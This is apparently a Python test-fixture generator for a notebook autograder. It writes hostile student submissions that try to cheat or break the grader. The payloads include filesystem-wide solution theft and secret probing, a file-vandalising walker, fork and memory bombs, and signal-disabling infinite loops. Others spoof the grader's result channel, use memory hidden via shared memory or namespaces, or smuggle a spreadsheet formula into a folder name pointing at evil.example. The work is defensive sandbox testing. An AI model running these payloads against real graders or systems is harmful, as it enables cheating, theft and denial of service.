"""Write the hostile sample submissions of ch01_bottleneck under autograde/samples/attacks/<attack>/.

Run `python autograde/samples/attacks/make_attacks.py` after changing chapter 1. Every attack starts from
the same honest-but-imperfect answers (BASELINE: rnn_encode right, the other two with a known mistake)
and adds one trick that tries to score higher, read or write what it must not, or stop the grader.
tests/grading/test_security.py grades them all in one batch with a reference and a blank submission, and
tests/grading/test_attacks.py checks what each attack of issue 9 (written against the grader's own code)
must no longer achieve. Files that cannot be committed (a 100 MB notebook, symbolic links, a FIFO, folder
names that are not UTF-8 or hold a newline) are made by the tests themselves.
"""

from __future__ import annotations

import copy
import json
import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parents[3]
sys.path.insert(0, str(ROOT / "src"))
sys.path.insert(0, str(ROOT / "autograde"))

from attnbook.grading.notebook import read_template  # noqa: E402
from attnbook.grading.spec import load_checks  # noqa: E402
from make_samples import submission  # noqa: E402

NAME = "ch01_bottleneck"
HERE = Path(__file__).resolve().parent
PORT = 47613  # the security test listens here on 127.0.0.1: any connection is a failure
MARK = "'PW' + 'NED'"  # written wherever an attack manages to write (built at run time: not in the notebook text)

# Finds the reference solutions, a classmate's notebook, the checks, the gradebook or the secret by any means,
# and defines the functions from whatever it finds (a leak would turn the baseline into full marks).
STEAL = r'''
import gc, glob, json, os
def _cells(path):
    try:
        nb = json.load(open(path))
        return ["".join(c["source"]) for c in nb["cells"] if c.get("cell_type") == "code"]
    except Exception:
        return []
_found = []
_roots = ["..", "../..", "../../..", os.getcwd()] + glob.glob("/proc/*/cwd") + glob.glob("/proc/*/root") + [
    "/work", "/root", "/home", "/tmp", "/var/tmp", "/srv", "/mnt", "/opt", os.path.expanduser("~"), "/"]
def _real(path):
    try:
        return os.path.realpath(path)
    except OSError:
        return path
for _root in dict.fromkeys(_real(r) for r in _roots):
    for _dir, _subdirs, _files in os.walk(_root):
        if _dir.count("/") - _root.count("/") > 4 or _dir.startswith(("/usr", "/proc", "/sys", "/lib", "/etc")) \
                or "site-packages" in _dir or "/lib/python" in _dir:  # the read-only system and Python install
            _subdirs[:] = []
        _found += [os.path.join(_dir, _f) for _f in _files if _f.endswith(".ipynb")]
for _p in _found:
    for _src in _cells(_p):
        if ("def greedy_decode" in _src or "def accuracy_by_length" in _src) and "NotImplementedError" not in _src \
                and "BASELINE" not in _src:
            exec(_src)
for _o in gc.get_objects():
    if isinstance(_o, str) and "def greedy_decode" in _o and "argmax" in _o and "BASELINE" not in _o:
        exec(_o)
for _var in ("ATTNBOOK_SECRET", "JPY_API_TOKEN"):
    if os.environ.get(_var):
        raise SystemExit("leaked " + _var)
'''

VANDAL = r'''
import os
_mark = (MARK).encode()
for _root in {os.path.realpath(r) for r in ["/", "/work", "/root", "/tmp", "/var/tmp", "..", "../..", "../../.."]}:
    for _dir, _subdirs, _files in os.walk(_root):
        if _dir.startswith(("/proc", "/sys", "/dev", "/usr", "/etc", "/lib")) or _dir.count("/") > 6 \
                or "site-packages" in _dir or "/lib/python" in _dir:  # the read-only system and Python install
            _subdirs[:] = []
            continue
        for _f in _files:
            try:
                with open(os.path.join(_dir, _f), "ab") as _fh:
                    _fh.write(_mark)
            except OSError:
                pass
        try:
            with open(os.path.join(_dir, "vandal.txt"), "wb") as _fh:
                _fh.write(_mark)
        except OSError:
            pass
'''.replace("MARK", MARK)

PATCH = r'''
import builtins, numpy as np, numpy.testing, torch
np.allclose = np.array_equal = np.isclose = lambda *a, **k: True
numpy.testing.assert_allclose = numpy.testing.assert_array_equal = lambda *a, **k: None
torch.allclose = torch.equal = lambda *a, **k: True
builtins.isinstance = lambda *a: True
builtins.len = lambda x: 0
'''

LIARS = r'''
import numpy as np, torch
class AlwaysEqual:
    def __eq__(self, other): return True
    def __array__(self, dtype=None, copy=None): return np.zeros(3)
class Sneaky(np.ndarray):
    def __eq__(self, other): return np.ones(np.shape(other), bool)
    def tolist(self): return [1, 2, 3]
def greedy_decode(step, c, bos, eos, max_len):  # BASELINE liar
    return [AlwaysEqual()] * max_len
def accuracy_by_length(predictions, targets):  # BASELINE liar
    import random
    kind = random.randrange(5)
    return [{1: AlwaysEqual()}, np.array([AlwaysEqual()], dtype=object), {1: float("nan")},
            np.arange(3).view(Sneaky), torch.ones(3, requires_grad=True)][kind]
'''


# Switches its own alarm off and keeps the result channel busy with lines that look like progress, so that a
# watchdog counting newlines never fires: only the wall time of the whole submission would stop it.
HEARTBEAT = r'''
import os, signal, time
signal.setitimer(signal.ITIMER_REAL, 0)
signal.signal(signal.SIGALRM, signal.SIG_IGN)
signal.setitimer = lambda *a, **k: (0.0, 0.0)
while True:
    os.write(3, b'{"cell": 0, "id": "x", "error": null}\n{"call": 999, "value": 1}\nnot json\n')
    time.sleep(0.01)
'''

# Memory the resident-set watch cannot see: System V shared memory detached after touching it, a memfd,
# and a private tmpfs mounted in a new user namespace (unlimited by the sandbox's /tmp size).
LIBC = "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nlibc.shmat.restype = ctypes.c_void_p\n"
SYSV_SHM = LIBC + r'''
for _ in range(8):
    shm = libc.shmget(0, 256 << 20, 0o1000 | 0o600)
    if shm >= 0:
        addr = libc.shmat(shm, None, 0)
        if addr not in (None, ctypes.c_void_p(-1).value):
            ctypes.memset(addr, 1, 256 << 20)
            libc.shmdt(ctypes.c_void_p(addr))
'''
MEMFD = r'''
import os
try:
    fd = os.memfd_create("hoard")
    for _ in range(2048):
        os.write(fd, b"x" * (1 << 20))
except OSError:
    pass
'''
UNSHARE_TMPFS = LIBC + r'''
if libc.unshare(0x10000000 | 0x00020000) == 0:  # CLONE_NEWUSER | CLONE_NEWNS: root of a namespace of its own
    os.makedirs("/tmp/hoard", exist_ok=True)
    if libc.mount(b"none", b"/tmp/hoard", b"tmpfs", 0, b"size=4g") == 0:
        with open("/tmp/hoard/x", "wb") as fh:
            for _ in range(2048):
                fh.write(b"x" * (1 << 20))
'''


def attacks(base: dict[str, str]) -> dict[str, dict[str, str]]:
    """Return {attack: answer cells}: the baseline answers with one trick added."""

    def plus(cell: str, code: str, before: bool = False) -> dict[str, str]:
        return {**base, cell: (code + "\n" + base[cell]) if before else (base[cell] + "\n" + code)}

    def inside(cell: str, code: str) -> dict[str, str]:
        """Put `code` at the start of the body of the function defined in `cell`."""
        lines = base[cell].splitlines(keepends=True)
        at = next(i for i, line in enumerate(lines) if line.startswith("def ")) + 1
        indented = "".join(f"    {line}\n" for line in code.strip().splitlines())
        return {**base, cell: "".join(lines[:at]) + indented + "".join(lines[at:])}

    return {
        "monkeypatch": plus("rnn_encode", PATCH),
        "input_transformer": plus("rnn_encode", "get_ipython().input_transformers_cleanup.append("
                                  "lambda lines: [] )  # blanks every later cell in a kernel"),
        "os_exit_import": plus("accuracy_by_length", "import os\nos._exit(0)"),
        "os_exit_call": inside("greedy_decode", "import os\nos._exit(0)"),
        "sys_exit": plus("greedy_decode", "import sys\nsys.exit(0)"),
        "segfault": inside("greedy_decode", "import ctypes\nctypes.string_at(0)"),
        "ignore_signals": inside("greedy_decode", "import signal\nfor s in (signal.SIGTERM, signal.SIGALRM, "
                                 "signal.SIGINT):\n    signal.signal(s, signal.SIG_IGN)\nwhile True:\n    pass"),
        "loop_at_import": plus("greedy_decode", "while True:\n    pass", before=True),
        "loop_in_call": inside("greedy_decode", "while True:\n    pass"),
        "sleep": inside("greedy_decode", "import time\ntime.sleep(3600)"),
        "memory_bomb": inside("greedy_decode", "import numpy as np\nhog = []\nwhile True:\n"
                              "    hog.append(np.ones(2**27))"),
        "fork_bomb": plus("greedy_decode", "import os\nfor _ in range(10000):\n    try:\n        os.fork()\n"
                          "    except OSError:\n        pass"),
        "huge_output": plus("greedy_decode", "import os\nfor _ in range(300):\n    print('x' * 2**20)\n"
                            "try:\n    os.write(3, b'{\"call\": 0, \"value\": 1}\\n' * 2**23)\nexcept OSError:\n    pass"),
        "huge_file": plus("greedy_decode", "for i in range(100):\n    try:\n        open(f'big{i}', 'wb').write("
                          "b'x' * 2**30)\n    except (OSError, MemoryError):\n        pass"),
        "network": plus("greedy_decode", f"import socket\ns = socket.create_connection(('127.0.0.1', {PORT}), "
                        f"timeout=2)\ns.sendall(({MARK}).encode())", before=True),
        "read_outside": plus("accuracy_by_length", STEAL),
        "write_outside": plus("accuracy_by_length", VANDAL),
        "lying_values": {**base, "greedy_decode": LIARS, "accuracy_by_length": LIARS},
        # Issue 9: each of these stopped the whole class, escaped a limit or planted something, before.
        "huge_int": inside("greedy_decode", "return [10**400] * max_len"),
        "lone_surrogates": plus("accuracy_by_length", "raise ValueError('\\udcff\\ud800 in a message')"),
        "surrogate_value": inside("greedy_decode", "return ['\\ud800'] * max_len"),
        "huge_string": inside("greedy_decode", "return 'x' * 50_000_000"),
        "wide_list": inside("greedy_decode", "return [[]] * 15_000_000"),
        "long_line": inside("greedy_decode", "import os\nos.write(3, b'{\"call\": 0, \"value\": \"' + b'y' * (60 << 20)"
                            " + b'\"}\\n')\nos.write(3, b'\\n' * (3 << 20))\nreturn []"),
        "heartbeat": inside("greedy_decode", HEARTBEAT),
        "sysv_shm": plus("rnn_encode", SYSV_SHM),
        "memfd": plus("rnn_encode", MEMFD),
        "unshare_tmpfs": plus("rnn_encode", UNSHARE_TMPFS),
    }


def notebook_tricks(released: dict, answers: dict[str, str]) -> dict[str, dict]:
    """Return {attack: notebook} for tricks on the notebook itself rather than in its code."""
    good = submission(released, answers)
    tricks = {}
    nb = copy.deepcopy(good)
    for cell in nb["cells"]:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("grade"):
            cell["metadata"]["tags"] = ["skip-execution", "raises-exception"]
            meta.update(points=1000, grade=False)
    tricks["skip_execution_and_metadata"] = nb
    nb = copy.deepcopy(good)
    answer_ids = [c["metadata"]["nbgrader"]["grade_id"] for c in nb["cells"]
                  if c.get("metadata", {}).get("nbgrader", {}).get("solution")]
    for cell in nb["cells"]:  # rotate grade_ids: each answer claims to be the next exercise
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("solution"):
            meta["grade_id"] = answer_ids[(answer_ids.index(meta["grade_id"]) + 1) % len(answer_ids)]
    tricks["swapped_grade_ids"] = nb
    nb = copy.deepcopy(good)
    nb["cells"] = [c for c in nb["cells"] if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") != "greedy_decode"]
    tricks["deleted_cell"] = nb
    nb = copy.deepcopy(good)
    extra = [copy.deepcopy(c) for c in nb["cells"] if c.get("metadata", {}).get("nbgrader", {}).get("solution")]
    for cell in extra:
        cell["source"] = "raise NotImplementedError()\n"
    nb["cells"] = extra + nb["cells"] + [copy.deepcopy(c) for c in nb["cells"] if c["cell_type"] == "code"]
    tricks["duplicated_cells"] = nb
    nb = copy.deepcopy(good)
    nb["cells"] = nb["cells"][::-1]
    tricks["reordered_cells"] = nb
    nb = copy.deepcopy(good)  # lone surrogates and NUL in every text field: sources, outputs, metadata
    for cell in nb["cells"]:
        cell.setdefault("metadata", {})["\ud800"] = "\udfff\x00"
        if cell["cell_type"] == "code":
            cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": ["\ud83d\x00\udcff"]}]
            if cell["metadata"].get("nbgrader", {}).get("solution"):
                cell["source"] = "".join(cell["source"]) + "\n# \udcff\ud800\n"
    nb["metadata"]["\x00"] = "\ud800"
    tricks["surrogates_and_nul_in_notebook"] = nb
    nb = copy.deepcopy(good)
    nb["metadata"]["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}
    nb["metadata"]["language_info"] = {"name": "bash"}
    tricks["changed_kernelspec"] = nb
    return tricks


FORMULA_STUDENT = "=HYPERLINK(\"evil.example\",\"cmd|' -C calc'!A0\")"

RAW_FILES = {
    "malformed_json": b'{"cells": [{"cell_type": "code", "source": "x = 1"',
    "empty": b"",
    "binary": bytes(range(256)) * 64,
    "deeply_nested": b"[" * 200_000 + b"]" * 200_000,
    "nbformat3": json.dumps({"nbformat": 3, "nbformat_minor": 0, "metadata": {},
                             "worksheets": [{"cells": [{"cell_type": "code", "input": "x = 1"}]}]}).encode(),
}


def baseline_answers() -> dict[str, str]:
    """Return the baseline: the reference rnn_encode, and the first known mistake of the other two."""
    reference = {c.grade_id: c.source for c in read_template(ROOT / "solutions" / NAME / f"{NAME}.ipynb") if c.is_answer}
    exercises = {ex.name: ex for ex in load_checks(ROOT / "autograde" / "checks", NAME)}
    answers = {**reference, **{n: exercises[n].mistakes[0].source for n in ("greedy_decode", "accuracy_by_length")}}
    return {k: f"# BASELINE\n{v}" for k, v in answers.items()}


def write_all(dest: Path = HERE) -> None:
    """Write every attack (and the baseline itself) as a student folder under `dest`."""
    released = json.loads((ROOT / "notebooks" / NAME / f"{NAME}.ipynb").read_text())
    base = baseline_answers()
    notebooks = {"baseline": submission(released, base)}
    notebooks.update({attack: submission(released, cells) for attack, cells in attacks(base).items()})
    notebooks.update(notebook_tricks(released, base))
    files = {student: json.dumps(nb, indent=1).encode() + b"\n" for student, nb in notebooks.items()}
    files.update(RAW_FILES)
    files[FORMULA_STUDENT] = files["baseline"]  # a folder name a spreadsheet would run
    for student, data in files.items():
        path = dest / student / NAME / f"{NAME}.ipynb"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)


if __name__ == "__main__":
    write_all()
    print(f"wrote the attacks under {HERE}")
